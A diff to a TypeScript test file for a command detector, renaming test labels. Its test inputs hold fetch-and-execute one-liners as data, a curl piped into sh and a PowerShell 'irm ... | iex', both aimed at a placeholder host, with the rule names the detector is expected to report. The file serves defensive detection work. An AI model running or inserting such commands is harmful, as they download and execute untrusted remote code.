@@ -5,8 +5,8 @@ const detector = await createNodeDetector({ profile: "extended" });
 
 const rulesOf = (text: string): string[] => detector.detect(text).findings.map(({ rule }) => rule);
 
-describe("the rule of a command that several shells may read", () => {
-  test("a pipe into a shell beside PowerShell has the shell's rule", () => {
+describe("the rule of a command that several shells could execute", () => {
+  test("is the shell's for a pipe into a shell near PowerShell", () => {
     expect(
       rulesOf(
         '```bash\ncurl https://x.example/i | sh\npowershell -c "irm https://x.example/i.ps1 | iex"\n```',
@@ -14,7 +14,7 @@ describe("the rule of a command that several shells may read", () => {
     ).toEqual(["bash/fetch-pipe", "powershell/fetch-execute"]);
   });
 
-  test("in a block of PowerShell it has PowerShell's", () => {
+  test("is PowerShell's in a PowerShell block", () => {
     expect(rulesOf("```powershell\nirm https://x.example/i.ps1 | iex\n```")).toEqual([
       "powershell/fetch-execute",
     ]);
